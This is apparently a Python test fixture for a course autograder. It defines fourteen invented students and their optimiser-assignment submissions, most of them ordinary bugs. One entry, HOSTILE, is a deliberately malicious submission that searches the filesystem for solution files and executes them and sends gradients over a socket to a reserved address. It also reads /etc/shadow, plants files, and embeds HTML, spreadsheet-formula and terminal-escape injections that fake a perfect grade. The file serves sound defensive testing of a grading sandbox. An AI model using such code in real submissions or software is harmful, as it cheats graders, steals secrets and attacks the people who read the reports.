"""The demo class: fourteen invented people and what each of them handed in for ``s04_optimisers``.

Nothing here is a solution. A submission is written down as changes to the reference or to the starter, and
built by :func:`files_of` when the demo runs.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import datetime
from enum import StrEnum
from zoneinfo import ZoneInfo

from autograder.course.mistakes import Change, Mistake, Variant, apply_changes, redefine, write

OPTIM = "scratch/optim.py"
DUBLIN = ZoneInfo("Europe/Dublin")


class Base(StrEnum):
    """What a submission starts from."""

    REFERENCE = "reference"
    STARTER = "starter"
    NOTHING = "nothing"  # an archive without files, or no submission at all


class Layout(StrEnum):
    """How the files were uploaded."""

    ZIP = "zip"
    ZIP_IN_ZIP = "zip in zip"
    MAC_ZIP = "mac zip"  # with __MACOSX and .DS_Store
    LOOSE = "loose"  # the files themselves, in their folders
    NONE = "none"  # nothing was uploaded


@dataclass(frozen=True)
class Attempt:
    """One upload.

    Attributes:
        submitted: when Moodle saved it, with its time zone.
        base: what the files are before the changes.
        variant: the name of one of the stage's variants, '' for none.
        mistakes: names of the stage's mistakes, made one after another.
        changes: the person's own, made last.
    """

    submitted: datetime
    base: Base = Base.REFERENCE
    variant: str = ""
    mistakes: tuple[str, ...] = ()
    changes: tuple[Change, ...] = ()


@dataclass(frozen=True)
class DemoPerson:
    """Somebody in the demo class.

    Attributes:
        name: as Moodle stores it; hostile text, like every name.
        slug: for file names of the demo's own.
        participant_id: Moodle's number for this assignment.
        attempt: what counts; None where nothing was handed in.
        note: what this person is here to show.
        upload: the name of the uploaded file; unused where the layout is loose.
        layout: how the files were uploaded.
        folder: the folder within the upload that holds the files, '' for none.
        earlier: an upload that ``attempt`` replaced: it is in an earlier download only.
    """

    name: str
    slug: str
    participant_id: str
    attempt: Attempt | None
    note: str
    upload: str = "submission.zip"
    layout: Layout = Layout.ZIP
    folder: str = ""
    earlier: Attempt | None = None


def files_of(
    attempt: Attempt,
    reference: Mapping[str, str],
    starter: Mapping[str, str],
    mistakes: Iterable[Mistake],
    variants: Iterable[Variant],
) -> dict[str, str]:
    """Return the files of an upload, path to text.

    Raises:
        ValueError: a name is not that of a mistake or variant, or a change does not fit.
    """
    files: Mapping[str, str] = {Base.REFERENCE: reference, Base.STARTER: starter, Base.NOTHING: {}}[attempt.base]
    known = {mistake.name: mistake.changes for mistake in mistakes}
    known |= {variant.name: variant.changes for variant in variants}
    for name in (*filter(None, [attempt.variant]), *attempt.mistakes):
        if name not in known:
            raise ValueError(f"{name}: neither a mistake nor a variant of the stage")
        files = apply_changes(files, known[name])
    return apply_changes(files, attempt.changes)


def _at(day: int, hour: int, minute: int) -> datetime:
    """A time in the week in which the stage is due: Friday, 19 February 2027, 17:00."""
    return datetime(2027, 2, day, hour, minute, tzinfo=DUBLIN)


NO_SCHEDULES = redefine(
    OPTIM,
    """
class StepLR:
    def __init__(self, optimiser, step_size, gamma=0.1):
        raise NotImplementedError("StepLR.__init__")


class CosineAnnealingLR:
    def __init__(self, optimiser, T_max, eta_min=0.0):
        raise NotImplementedError("CosineAnnealingLR.__init__")


class LinearWarmup:
    def __init__(self, optimiser, total_iters, start_factor=1 / 3):
        raise NotImplementedError("LinearWarmup.__init__")


WRITTEN_ANSWER = "AdamW is better than Adam because it generalises better."
""",
)

NESTEROV_WITHOUT_END = redefine(
    OPTIM,
    '''
class SGD(SGD):
    def step(self):
        """Look ahead until looking ahead changes nothing. It always does."""
        while self.nesterov:
            ahead = [param.data - self.lr * param.grad for param in self.params]
            if all(np.array_equal(new, param.data) for new, param in zip(ahead, self.params)):
                break
        super().step()
''',
)

RMSPROP_THAT_CRASHES = redefine(
    OPTIM,
    '''
import ctypes


class RMSprop(RMSprop):
    def step(self):
        """Read the gradients through a pointer, for speed. The pointer is wrong."""
        ctypes.c_double.from_address(8).value
''',
)

HOSTILE = write(
    OPTIM,
    '''
"""<script>alert("optim")</script> =HYPERLINK("http://192.0.2.7/","mark") \\x1b[2J\\x1b[31m100 / 100"""

import os
import socket


class Optimiser:
    def __init__(self, params, lr=1e-3, **settings):
        self.params, self.lr = list(params), lr

    def zero_grad(self):
        print("\\x1b]0;grade=100\\x07<b>All tests passed</b> " * 50)
        raise RuntimeError("<img src=x onerror=alert(1)> \\x1b[2J all tests passed, 100 / 100")


class SGD(Optimiser):
    def step(self):
        """Look for the answers."""
        for folder in (".", "..", "/", "/home", os.path.expanduser("~")):
            for root, _, names in os.walk(folder):
                for name in names:
                    if name in ("optim.py", "test_hidden.py", "gradebook.sqlite") and "solutions" in root:
                        with open(os.path.join(root, name)) as file:
                            exec(file.read(), globals())
                if root.count(os.sep) > 6:
                    break
        raise FileNotFoundError("solutions/scratch/optim.py")


class RMSprop(Optimiser):
    def step(self):
        """Send the gradients home; the address is one that is reserved for documentation."""
        with socket.create_connection(("192.0.2.7", 443), timeout=2) as home:
            home.sendall(b"".join(param.grad.tobytes() for param in self.params))


class Adam(Optimiser):
    def step(self):
        """Read what a process should not."""
        for path in ("/etc/shadow", "/proc/1/environ", f"/proc/{os.getppid()}/maps"):
            with open(path, "rb") as file:
                raise RuntimeError(repr(file.read()[:200]))


class AdamW(Optimiser):
    def step(self):
        """Leave something behind."""
        for folder in ("/tmp", ".", os.path.expanduser("~")):
            with open(os.path.join(folder, "was_here.txt"), "w") as file:
                file.write("was here")
''',
)

PEOPLE: tuple[DemoPerson, ...] = (
    DemoPerson(
        "Séan Ó Briain", "sean", "41310", Attempt(_at(17, 10, 3)), "All tests pass, submitted early.",
    ),
    DemoPerson(
        "Lê Thị Hồng", "hong", "41326", Attempt(_at(18, 23, 59), variant="everything_in_one_flat_array"),
        "All tests pass with code that looks nothing like the reference; the zip's name is Vietnamese.",
        upload="bài tập bốn.zip", folder="bài tập/s04",
    ),
    DemoPerson(
        "小明 李", "xiaoming", "41312", Attempt(_at(16, 14, 0), mistakes=("adam_without_bias_correction",)),
        "One mistake that costs many tests and is known: the hint names it.", upload="作业四.zip",
    ),
    DemoPerson(
        "محمد العلي", "mohammed", "41308", Attempt(_at(16, 15, 0), mistakes=("momentum_buffer_of_steps",)),
        "Right while lr is constant: two hidden tests see it. Loose files, no zip.", layout=Layout.LOOSE,
    ),
    DemoPerson(
        "Оксана Шевченко", "oksana", "41315",
        Attempt(_at(19, 16, 58), mistakes=("clipping_each_parameter_alone", "cosine_stays_at_its_minimum")),
        "Two unrelated mistakes, two minutes before the end; packed on a Mac.", layout=Layout.MAC_ZIP,
    ),
    DemoPerson(
        "Aoife O'Sullivan", "aoife", "41320",
        Attempt(
            _at(19, 15, 30), mistakes=("adam_eps_under_the_root", "first_gradient_is_dampened"), changes=(NO_SCHEDULES,)
        ),
        "Partly right: no schedules yet, and two small mistakes. Moodle drops the apostrophe in the folder's name.",
        upload="osullivan s04 (final) [v2].zip",
    ),
    DemoPerson(
        "John Murphy", "murphy_one", "41313", Attempt(_at(21, 3, 20), variant="functional"),
        "All tests pass, submitted 34 hours late.",
    ),
    DemoPerson(
        "John Murphy", "murphy_two", "41314", Attempt(_at(16, 9, 0), changes=(NESTEROV_WITHOUT_END,)),
        "Another John Murphy, whose Nesterov momentum never ends: it costs the two tests that run it, no others.",
    ),
    DemoPerson(
        "Zoë 🦊 van der Berg", "zoe", "41323", Attempt(_at(16, 13, 0), changes=(RMSPROP_THAT_CRASHES,)),
        "RMSprop ends the process with a segmentation fault; a zip in a zip.",
        upload="🦊 solution.zip", layout=Layout.ZIP_IN_ZIP,
    ),
    DemoPerson(
        "=1+1 @Sum|A1", "formula", "41309", Attempt(_at(16, 18, 0), Base.NOTHING, changes=(HOSTILE,)),
        "Hostile: looks for the answers, opens a socket, writes files, prints escapes and HTML. The name is a formula.",
    ),
    DemoPerson(
        "Robert Smith, Jr.", "robert", "41316", Attempt(_at(18, 12, 0), Base.NOTHING),
        "An empty zip: 0 points, and a finding that says so. The name has a comma.", upload="empty.zip",
    ),
    DemoPerson(
        "José Nuñez", "jose", "41311", Attempt(_at(19, 11, 15), variant="state_by_parameter_id"),
        "Submitted twice: the first download still has the mistakes of the first time.",
        earlier=Attempt(
            _at(15, 19, 0), mistakes=("adam_state_by_shape", "parameters_are_used_up", "warmup_goes_on_rising")
        ),
    ),
    DemoPerson(
        "Niamh Ní Dhomhnaill", "niamh", "41319", Attempt(_at(19, 17, 9), Base.STARTER),
        "The starter as it was, nine minutes late: within the grace period, and still 0 points.",
    ),
    DemoPerson(
        "Dara Draft-Byrne", "dara", "41322", None,
        "Submitted nothing: a row in the worksheet, no entry in the download.",
        layout=Layout.NONE,
    ),
)  # fmt: skip  # one person, one paragraph
